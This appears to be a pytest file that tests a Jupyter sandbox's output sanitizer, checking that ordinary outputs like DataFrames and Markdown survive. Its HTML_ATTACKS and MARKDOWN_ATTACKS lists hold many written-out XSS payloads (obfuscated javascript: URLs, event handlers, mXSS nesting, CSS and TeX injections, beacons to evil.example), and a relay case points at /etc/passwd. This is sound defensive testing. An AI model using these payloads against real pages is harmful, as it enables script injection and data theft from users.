"""The output sanitizer: every attack loses its script, every ordinary output keeps its look."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any

import pytest

from jupyter_sandbox.jupyter.output_safety import safe_bundle, safe_html, safe_markdown, safe_tex
from jupyter_sandbox.jupyter.relay_messages import filter_reply

# What pandas' DataFrame._repr_html_ emits (pandas 2.x), verbatim.
DATAFRAME = """<div>
<style scoped>
    .dataframe tbody tr th:only-of-type {
        vertical-align: middle;
    }

    .dataframe tbody tr th {
        vertical-align: top;
    }

    .dataframe thead th {
        text-align: right;
    }
</style>
<table border="1" class="dataframe">
  <thead>
    <tr style="text-align: right;">
      <th></th>
      <th>a</th>
    </tr>
  </thead>
  <tbody>
    <tr>
      <th>0</th>
      <td>1</td>
    </tr>
  </tbody>
</table>
</div>"""

_SAFE_TAGS = {"a", "b", "i", "p", "div", "span", "img", "table", "thead", "tbody", "tr", "th",
              "td", "h1", "code", "pre", "strong", "em", "details", "summary"}  # fmt: skip
_TEX_DANGER = re.compile(r"(?<!\\)\\(href|url|style|class|cssId|bbox|data|require)\b")


class _Inspector(HTMLParser):
    """Every way the cleaned HTML could run script, load, navigate or restyle the page."""

    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _SAFE_TAGS:
            self.problems.append(f"tag {tag}")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name in ("srcdoc", "formaction", "action", "id"):
                self.problems.append(f"attribute {name}")
            if name == "src" and not re.match(
                r"data:image/(png|jpeg|gif|webp|svg\+xml);base64,", value
            ):
                self.problems.append(f"src {value}")
            if name == "href" and not re.match(r"(https?://|mailto:)", value):
                self.problems.append(f"href {value}")
            if name == "style" and re.search(r"url|expression|position|\(", value, re.I):
                self.problems.append(f"style {value}")

    def handle_data(self, data: str) -> None:
        if _TEX_DANGER.search(data):
            self.problems.append(f"tex {data}")


def problems(html: str) -> list[str]:
    """What in `html` a browser (and MathJax) would act on; [] if nothing."""
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems


HTML_ATTACKS = [
    "<script>window.__pwned=1</script>",
    "<img src=x onerror='window.__pwned=1'>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    '<a href="javascript:window.__pwned=1">x</a>',
    '<a href="JaVaScRiPt:window.__pwned=1">x</a>',
    '<a href="java&#x09;script:window.__pwned=1">x</a>',
    "<svg onload='window.__pwned=1'><script>1</script></svg>",
    '<object data="javascript:window.__pwned=1"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name=a><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">',
    '<base href="https://evil.example/">',
    '<link rel="import" href="https://evil.example/x.html">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<div style="width: expression(window.__pwned=1)">x</div>',
    '<div style="background: url(javascript:window.__pwned=1)">x</div>',
    '<div style="background-image: url(https://evil.example/beacon)">x</div>',
    '<div style="position: fixed; top: 0; left: 0; z-index: 9999">cover</div>',
    "<style>body { display: none }</style>",
    '<math><maction actiontype="statusline" xlink:href="javascript:1">x</maction></math>',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">',
    '<img src="https://evil.example/beacon?secret=1">',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<details open ontoggle="window.__pwned=1">x</details>',
    '<a href="https://evil.example" onmouseover="window.__pwned=1">x</a>',
    "<noscript><p title=\"</noscript><img src=x onerror='window.__pwned=1'>\"></noscript>",
    r"$\href{javascript:window.__pwned=1}{click}$",
    r"$\style{background-image: url(https://evil.example)}{x}$",
]


@pytest.mark.parametrize("attack", HTML_ATTACKS)
def test_html_attacks_lose_their_script(attack: str) -> None:
    cleaned = safe_html(attack)
    assert problems(cleaned) == [], f"{attack!r} -> {cleaned!r}"


MARKDOWN_ATTACKS = [
    "hello <img src=x onerror='window.__pwned=1'>",
    "<script>window.__pwned=1</script>",
    "[click](javascript:window.__pwned=1)",
    "![beacon](https://evil.example/beacon.png)",
    "<javascript:window.__pwned=1>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    r"math $\href{javascript:window.__pwned=1}{x}$ here",
    "$<img src=x onerror='window.__pwned=1'>$",
]


@pytest.mark.parametrize("attack", MARKDOWN_ATTACKS)
def test_markdown_attacks_lose_their_script(attack: str) -> None:
    data, _ = safe_bundle({"text/markdown": attack, "text/plain": "md"})
    assert "text/markdown" not in data
    assert problems(data["text/html"]) == [], f"{attack!r} -> {data['text/html']!r}"


@pytest.mark.parametrize(
    "mime",
    [
        "application/javascript",
        "text/javascript",
        "application/vnd.jupyter.widget-view+json",
        "application/vnd.jupyter.widget-state+json",
        "application/vnd.plotly.v1+json",
        "application/x-javascript",
        "text/x-python",
    ],
)
def test_executable_and_unknown_types_are_dropped(mime: str) -> None:
    data, _ = safe_bundle({mime: "window.__pwned=1", "text/plain": "x"})
    assert data == {"text/plain": "x"}


def test_a_bundle_with_nothing_safe_says_so() -> None:
    data, metadata = safe_bundle({"application/javascript": "window.__pwned=1"})
    assert data == {
        "text/plain": "[output removed: application/javascript cannot be shown from a sandbox]"
    }
    assert metadata == {}


@pytest.mark.parametrize(
    ("tex", "expected"),
    [
        (r"\href{javascript:x}{y}", "{javascript:x}{y}"),
        (r"\\href{x}", r"\\href{x}"),  # a line break, then text: not a command
        (r"\hr\href ef", r"\hr ef"),
        (r"\class{jp-Dialog}{x} \cssId{a}{b}", "{jp-Dialog}{x} {a}{b}"),
        (r"\bbox[red]{c} \require{x}", "[red]{c} {x}"),
        (r"\frac{a}{b} + \alpha", r"\frac{a}{b} + \alpha"),
    ],
)  # fmt: skip
def test_tex_loses_link_and_style_commands(tex: str, expected: str) -> None:
    assert safe_tex(tex) == expected


def test_svg_is_shown_only_as_an_image() -> None:
    svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='window.__pwned=1'/>"
    data, _ = safe_bundle({"image/svg+xml": svg, "text/plain": "fig"})
    assert "image/svg+xml" not in data
    assert data["text/html"].startswith('<img src="data:image/svg+xml;base64,')
    with_png, _ = safe_bundle({"image/svg+xml": svg, "image/png": "iVBORw0KGgo="})
    assert set(with_png) == {"image/png"}


def test_metadata_keeps_only_presentation_keys() -> None:
    data = {"image/png": "iVBORw0KGgo=", "text/html": "<b>x</b>", "text/plain": "x"}
    metadata: dict[str, Any] = {
        "image/png": {"width": 640, "height": 480, "onload": "x", "needs_background": "light"},
        "text/html": {"isolated": False, "trusted": True},
        "trusted": True,
        "application/javascript": {"x": 1},
    }
    _, kept = safe_bundle(data, metadata)
    assert kept == {"image/png": {"width": 640, "height": 480, "needs_background": "light"}}
    _, isolated = safe_bundle(data, {"text/html": {"isolated": True}})
    assert isolated == {"text/html": {"isolated": True}}


def test_a_dataframe_still_looks_like_a_table() -> None:
    data, _ = safe_bundle({"text/html": DATAFRAME, "text/plain": "   a\n0  1"})
    table = data["text/html"]
    assert '<table border="1" class="dataframe">' in table
    assert '<tr style="text-align:right">' in table
    assert table.count("<th>") == 3
    assert "<td>1</td>" in table
    assert "<style" not in table  # the scoped sheet goes
    assert "vertical-align" not in table


@pytest.mark.parametrize(
    ("data"),
    [
        {"text/plain": "2\n"},
        {"image/png": "iVBORw0KGgoAAAANSUhEUg==", "text/plain": "<Figure>"},
        {"image/jpeg": "/9j/4AAQ", "image/gif": "R0lGODlh"},
        {"application/json": {"a": [1, 2, {"b": None}]}},
        {"text/latex": r"$\frac{a}{b}$"},
    ],
)
def test_ordinary_outputs_are_kept_as_they_are(data: dict[str, Any]) -> None:
    assert safe_bundle(data)[0] == data


def test_markdown_keeps_its_formatting_and_math() -> None:
    html = safe_markdown("# Title\n\n**bold** and `a<b` and $a_1 * b_2 * c$\n\n| a |\n|---|\n| 1 |")
    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong>" in html
    assert "<code>a&lt;b</code>" in html
    assert "$a_1 * b_2 * c$" in html
    assert "<td>1</td>" in html


def test_safe_links_and_inline_images_are_kept() -> None:
    html = safe_html('<a href="https://pypi.org">pypi</a><img src="data:image/png;base64,iVBO">')
    assert 'href="https://pypi.org"' in html
    assert 'src="data:image/png;base64,iVBO"' in html


@pytest.mark.parametrize(
    ("channel", "msg_type", "content", "expected"),
    [
        ("iopub", "comm_open", {"comm_id": "c", "target_name": "jupyter.widget"}, None),
        ("iopub", "comm_msg", {"comm_id": "c", "data": {}}, None),
        ("iopub", "made_up", {}, None),
        ("shell", "made_up_reply", {}, None),
        ("iopub", "stream", {"name": "stdout", "text": "<b>"}, {"name": "stdout", "text": "<b>"}),
        (
            "iopub",
            "display_data",
            {"data": {"application/javascript": "1", "text/plain": "x"}, "metadata": {},
             "transient": {"display_id": "d", "evil": 1}},
            {"data": {"text/plain": "x"}, "metadata": {}, "transient": {"display_id": "d"}},
        ),
        (
            "shell",
            "execute_reply",
            {"status": "ok", "payload": [
                {"source": "page", "data": {"text/html": "<script>1</script>p"}, "start": 0},
                {"source": "set_next_input", "text": "x = 1", "replace": False},
                {"source": "edit_magic", "filename": "/etc/passwd"},
            ]},
            {"status": "ok", "payload": [
                {"source": "page", "data": {"text/html": "p"}, "start": 0},
                {"source": "set_next_input", "text": "x = 1", "replace": False},
            ]},
        ),
        (
            "shell",
            "inspect_reply",
            {"status": "ok", "found": True, "data": {"text/html": "<img src=x onerror=1>d"},
             "metadata": {}},
            {"status": "ok", "found": True, "data": {"text/html": "<img>d"}, "metadata": {}},
        ),
        (
            "shell",
            "kernel_info_reply",
            {"help_links": [{"text": "ok", "url": "https://docs.python.org"},
                            {"text": "bad", "url": "javascript:window.__pwned=1"}]},
            {"help_links": [{"text": "ok", "url": "https://docs.python.org"}]},
        ),
        ("shell", "comm_info_reply", {"comms": {"c": {"target_name": "x"}}}, {"comms": {}}),
    ],
)  # fmt: skip
def test_relay_message_filter(
    channel: str, msg_type: str, content: dict[str, Any], expected: dict[str, Any] | None
) -> None:
    assert filter_reply(channel, msg_type, content) == expected
